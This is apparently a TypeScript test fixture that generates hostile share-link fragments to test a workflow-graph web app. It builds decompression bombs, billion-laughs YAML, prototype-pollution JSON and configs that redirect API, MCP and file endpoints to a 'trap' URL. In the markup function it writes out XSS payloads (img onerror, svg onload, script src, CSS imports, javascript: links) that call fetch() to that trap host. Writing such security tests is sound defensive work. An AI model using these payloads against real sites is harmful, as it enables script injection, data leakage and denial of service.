import { readFileSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'fflate';
import { parse } from 'yaml';
import { emptyDocument, type LoopDocument } from '../../src/engine/document/document.ts';
import { toBase64url } from '../../src/share/base64url.ts';
import { encodeLink } from '../../src/share/link.ts';
import { seal } from '../../src/share/seal.ts';
import { heavyTexts } from './heavy-texts.ts';
import { hostilePlaces } from './hostile-places.ts';
import { PATTERNS, TEMPLATES } from './hostile-values.ts';

/** What somebody might send: a fragment with its `#`, by the kind of harm that it is after. */
export interface HostileLink {
  kind: (typeof KINDS)[number];
  name: string;
  fragment: string;
}

export const KINDS = ['damaged', 'bomb', 'shape', 'markup', 'heavy', 'regex', 'template', 'endless', 'place'] as const;

/** All hostile links; what they would like to be fetched is at `trap`. */
export function hostileLinks(trap: string): HostileLink[] {
  const of = (kind: HostileLink['kind'], made: readonly (readonly [name: string, fragment: string])[]): HostileLink[] =>
    made.map(([name, fragment]) => ({ kind, name, fragment }));
  return [
    ...of('damaged', damaged()),
    ...of('bomb', bombs()),
    ...of('shape', shapes(trap)),
    ...of('markup', markup(trap)),
    ...of(
      'heavy',
      heavyTexts().map(([name, text]) => [name, linkOf({ text })]),
    ),
    ...of(
      'regex',
      PATTERNS.map((pattern) => [pattern, linkOf({ text: keyworded(pattern) })]),
    ),
    ...of(
      'template',
      TEMPLATES.map((prompt) => [prompt, linkOf({ text: prompting(prompt) })]),
    ),
    ...of('endless', endless()),
    ...of(
      'place',
      hostilePlaces(trap).map(([name, text]) => [name, linkOf({ text, inputs: { task: 'owls', input: 'owls' } })]),
    ),
  ];
}

function linkOf(changes: Partial<LoopDocument>): string {
  return encodeLink({ ...emptyDocument(), ...changes });
}

/** A fragment of any content, sealed as a good one is. */
function sealed(content: string | Uint8Array): string {
  const bytes = typeof content === 'string' ? new TextEncoder().encode(content) : content;
  return `#1a${toBase64url(seal(deflateSync(bytes, { level: 9 })))}`;
}

const template = (file: string): string =>
  readFileSync(path.join(import.meta.dirname, '..', '..', 'static', 'templates', file), 'utf8');

function damaged(): [string, string][] {
  const good = linkOf({ text: template('review-loop.yaml') });
  const at = (part: number): number => 3 + Math.floor(((good.length - 4) * part) / 16);
  const cut = Array.from({ length: 16 }, (_, part): [string, string] => [`cut ${part}/16`, good.slice(0, at(part))]);
  const changed = Array.from({ length: 16 }, (_, part): [string, string] => {
    const other = good[at(part)] === 'A' ? 'B' : 'A';
    return [`changed ${part}/16`, good.slice(0, at(part)) + other + good.slice(at(part) + 1)];
  });
  const versions = ['#', '#1', '#1b', '#1z', '#2a', '#9z', '#0a', '#xx', '#%31%61', '#1A'].map(
    (version): [string, string] => [`version ${version}`, version + good.slice(3)],
  );
  const words = ['#t=review-loop', '#javascript:alert(1)', '#<img src=x>', `${good}<script>`, `${good}%00`];
  return [
    ...cut,
    ...changed,
    ...versions,
    ...words.map((word): [string, string] => [`word ${word.slice(0, 20)}`, word]),
  ];
}

function bombs(): [string, string][] {
  const zeros = [1, 5, 20, 50].map((megabytes): [string, string] => [
    `${megabytes} MB of zeros`,
    sealed(new Uint8Array(megabytes * 1024 * 1024)),
  ]);
  const texts = [300_000, 600_000, 5_000_000].map((size): [string, string] => [
    `a text of ${size}`,
    sealed(JSON.stringify({ t: 'x'.repeat(size) })),
  ]);
  const laughs = [
    'a: &a [x,x,x,x,x,x,x,x,x]',
    ...[...'bcdefghi'].map((name, at) => {
      const before = 'abcdefgh'[at];
      return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(',')}]`;
    }),
  ].join('\n');
  const deep = (count: number): string => `a: ${'['.repeat(count)}${']'.repeat(count)}`;
  return [
    ...zeros,
    ...texts,
    ['a billion laughs', linkOf({ text: laughs })],
    ['10,000 lists in each other', linkOf({ text: deep(10_000) })],
    ['inputs 5,000 deep', sealed(`{"i":{"a":${'['.repeat(5000)}${']'.repeat(5000)}}}`)],
    ['longer than any link', `#1a${'A'.repeat(800_000)}`],
    ['a line of 250,000 signs', linkOf({ text: `a: ${'x'.repeat(250_000)}` })],
  ];
}

function shapes(trap: string): [string, string][] {
  const contents: [string, string][] = [
    ['no map', '[]'],
    ['null', 'null'],
    ['a number', '1e999'],
    ['a list for a text', '{"t":["a"]}'],
    ['a strange field', '{"t":"a","onload":"x"}'],
    ['__proto__', '{"t":"graph: {}","__proto__":{"polluted":1}}'],
    [
      '__proto__ in inputs',
      '{"t":"graph: {}","i":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}',
    ],
    ['settings of no map', '{"t":"a","o":[1]}'],
    ['strange settings', `{"t":"a","o":{"base_url":"${trap}","api_key":"x","seed":1e99,"vars":{"__proto__":"x"}}}`],
    ['a script that is none', '{"t":"graph: {}","s":"{\\"__proto__\\":{\\"agents\\":1}}"}'],
    ['no JSON', '{"t":'],
    ['half a sign', '{"t":"\\ud800"}'],
  ];
  const connections = `graph:\n  nodes:\n    - {id: A, type: agent, config: {provider: openai, name: gpt, base_url: "${trap}", api_key: sk-x, role: hi}}\n  start: [A]\n  end: [A]\n`;
  return [
    ...contents.map(([name, content]): [string, string] => [name, sealed(content)]),
    ['a connection to the trap', linkOf({ text: connections })],
    [
      'tools at the trap',
      linkOf({
        text: connections.replace('role: hi', `role: hi, tooling: [{type: mcp_remote, config: {server: "${trap}"}}]`),
      }),
    ],
    [
      'a file at the trap',
      linkOf({
        text: `graph:\n  nodes:\n    - {id: S, type: subgraph, config: {type: file, config: {path: "${trap}x.yaml"}}}\n  start: [S]\n  end: [S]\n`,
      }),
    ],
  ];
}

/** Payloads in every field that is free text, in ids, in inputs, in the script, in the name, and in what a sender or a lesson says. */
function markup(trap: string): [string, string][] {
  const payloads = [
    `<img src="${trap}i" onerror="fetch('${trap}e');document.body.dataset.hacked=1">`,
    `<svg onload="fetch('${trap}s');document.body.dataset.hacked=1"></svg>`,
    `<iframe src="${trap}f" srcdoc="<script>parent.document.body.dataset.hacked=1</script>"></iframe>`,
    `"><script src="${trap}j"></script><script>document.body.dataset.hacked=1</script>`,
    `<style>@import url(${trap}c); body{background:url(${trap}b)}</style><link rel=stylesheet href="${trap}l">`,
    `![x](${trap}m) [x](javascript:document.body.dataset.hacked=1)`,
    `<a href="javascript:document.body.dataset.hacked=1" autofocus onfocus="document.body.dataset.hacked=1">x</a>`,
    `<form action="${trap}o"><input autofocus onfocus="document.body.dataset.hacked=1"><button>x</form><base href="${trap}">`,
    `javascript:document.body.dataset.hacked=1//\${alert(1)}{{constructor.constructor('document.body.dataset.hacked=1')()}}`,
  ];
  const files = ['review-loop.yaml', 'learning-loop.yaml', 'refinement-container.yaml', 'self-refine.json'];
  const inFields = files.flatMap((file) => {
    const read: unknown = parse(template(file));
    return payloads.map((payload, at): [string, string] => [
      `${file} ${at}`,
      linkOf({
        name: payload,
        text: JSON.stringify(withPayload(read, payload), null, 1),
        inputs: { task: payload, input: payload },
      }),
    ]);
  });
  const inIds = payloads.map((payload, at): [string, string] => {
    const id = JSON.stringify(`A ${payload}`);
    const text = `graph:\n  nodes:\n    - {id: ${id}, type: agent, config: {provider: p, name: n, role: hi}}\n  start: [${id}]\n  end: [${id}]\n`;
    const scriptText = JSON.stringify({ agents: { [`A ${payload}`]: [payload] } });
    return [`id and answer ${at}`, linkOf({ name: payload, text, scriptText })];
  });
  const inProse = payloads.map((payload, at): [string, string] => [
    `lesson and note ${at}`,
    encodeLink(
      {
        ...emptyDocument(),
        text: template('review-loop.yaml'),
        settings: { lesson: { say: payload, hints: [payload], solution: payload } },
      },
      { note: payload, question: { text: payload, answer: payload } },
    ),
  ]);
  return [...inFields, ...inIds, ...inProse];
}

const FREE_TEXT =
  /^(?:role|prompt|description|label|title|message|content|name|model|system\w*|user\w*|text|template)$/i;

function withPayload(value: unknown, payload: string): unknown {
  if (Array.isArray(value)) return value.map((item) => withPayload(item, payload));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [
      key,
      typeof item === 'string' && FREE_TEXT.test(key) ? `${payload} ${item}` : withPayload(item, payload),
    ]),
  );
}

function keyworded(pattern: string): string {
  return `graph:
  nodes:
    - {id: Say, type: literal, config: {role: user, content: "${'a'.repeat(40)}!"}}
    - {id: End, type: passthrough, config: {}}
  edges:
    - {from: Say, to: End, condition: {type: keyword, config: {regex: [${JSON.stringify(pattern)}]}}}
  start: [Say]
  end: [End]
`;
}

function prompting(prompt: string): string {
  return `orchestrator: {id: o, agents: [a]}
agents:
  - id: a
    type: openai-answer
    prompt: ${JSON.stringify(prompt)}
`;
}

function endless(): [string, string][] {
  const ping =
    'graph:\n  nodes:\n    - {id: A, type: passthrough, config: {}}\n    - {id: B, type: passthrough, config: {}}\n  edges:\n    - {from: A, to: B}\n    - {from: B, to: A}\n  start: [A]\n  end: [B]\n';
  const talk = ping.replaceAll('passthrough, config: {}', 'agent, config: {provider: p, name: n, role: hi}');
  return [
    ['two that pass on', linkOf({ text: ping })],
    ['two that talk', linkOf({ text: talk, settings: { mood: 'stubborn' } })],
  ];
}
